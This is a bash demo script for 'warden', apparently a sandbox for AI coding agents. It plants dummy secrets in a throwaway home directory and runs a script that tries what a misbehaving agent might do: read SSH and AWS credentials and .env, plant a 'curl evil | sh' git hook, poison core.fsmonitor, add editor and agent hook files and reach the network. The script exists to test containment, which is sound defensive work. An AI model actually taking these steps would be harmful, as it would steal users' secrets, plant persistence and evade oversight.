#!/usr/bin/env bash
# The built-in demo: a throw-away project and $HOME with planted secrets,
# and a script that tries what a misbehaving agent would. warden lets the
# legitimate work through and blocks the rest. Then a real agent harness
# (OpenCode) under `warden start`, against warden's scripted model.
set -euo pipefail
warden=$(realpath "${1:-bin/warden}")
mockmodel=$(realpath "${2:-$(dirname "$warden")/warden-mockmodel}")
here=$(cd "$(dirname "$0")" && pwd)
demo=$(mktemp -d "${TMPDIR:-/tmp}/warden-demo.XXXXXX")
trap 'rm -rf "$demo"' EXIT
home="$demo/home"; proj="$home/src/project"
mkdir -p "$home/.ssh" "$home/.aws" "$proj"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo)" > "$home/.ssh/id_ed25519"
printf '[default]\naws_secret_access_key = demo\n' > "$home/.aws/credentials"
( cd "$proj" && git init -q -b main && printf 'print("hello")\n' > app.py && echo 'API_TOKEN=demo-secret' > .env \
  && git add app.py && git -c user.name=demo -c user.email=demo@example.com commit -qm init )

cat > "$demo/agent.sh" <<'AGENT'
#!/bin/sh
# What an agent might try. Each line prints ALLOWED or BLOCKED.
try() { label=$1; shift; if ( "$@" ) >/dev/null 2>&1; then echo "  ALLOWED  $label"; else echo "  BLOCKED  $label"; fi; }
echo "inside the sandbox (pid $$, host name $(hostname)):"
try "edit the project (app.py)"                 sh -c 'echo "print(1)" >> app.py'
try "git commit"                                sh -c 'git add app.py && git -c user.name=a -c user.email=a@b commit -qm edit'
try "read ~/.ssh/id_ed25519"                    cat "$HOME/.ssh/id_ed25519"
try "read ~/.aws/credentials"                   cat "$HOME/.aws/credentials"
try "read the project's .env"                   cat .env
try "plant .git/hooks/pre-commit"               sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
try "poison .git/config (core.fsmonitor)"       git config core.fsmonitor "sh -c evil"
try "create .claude/settings.json hooks"        sh -c 'mkdir -p .claude && echo {} > .claude/settings.json'
try "create .vscode/tasks.json"                 sh -c 'mkdir -p .vscode && echo {} > .vscode/tasks.json'
try "write /etc/profile.d/x.sh"                 sh -c 'echo evil > /etc/profile.d/x.sh'
try "see the host's processes (ps)"             sh -c 'test $(ls /proc | grep -c "^[0-9]") -gt 10'
try "reach the network (TCP 1.1.1.1:443)"      python3 -c 'import socket; socket.create_connection(("1.1.1.1", 443), 3)'
try "see AWS_SECRET_ACCESS_KEY from the host"   sh -c 'test -n "$AWS_SECRET_ACCESS_KEY"'
AGENT
chmod +x "$demo/agent.sh"

echo "== warden run -- agent.sh   (project: $proj)"
cd "$proj"
env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$home" LANG=C.UTF-8 AWS_SECRET_ACCESS_KEY=demo-host-secret \
  "$warden" run --allow-read "$demo/agent.sh" -- "$demo/agent.sh"
echo
echo "== back on the host"
git -C "$proj" log --oneline | sed 's/^/  /'
for p in .git/hooks/pre-commit .claude .vscode; do
  if [ -e "$proj/$p" ]; then echo "  FOUND    $p (should not exist)"; else echo "  absent   $p"; fi
done
echo
echo "See 'warden run --explain -- sh' for the exact sandbox, and README.md for the policy file."
echo
"$here/demo-agent.sh" "$warden" "$mockmodel"
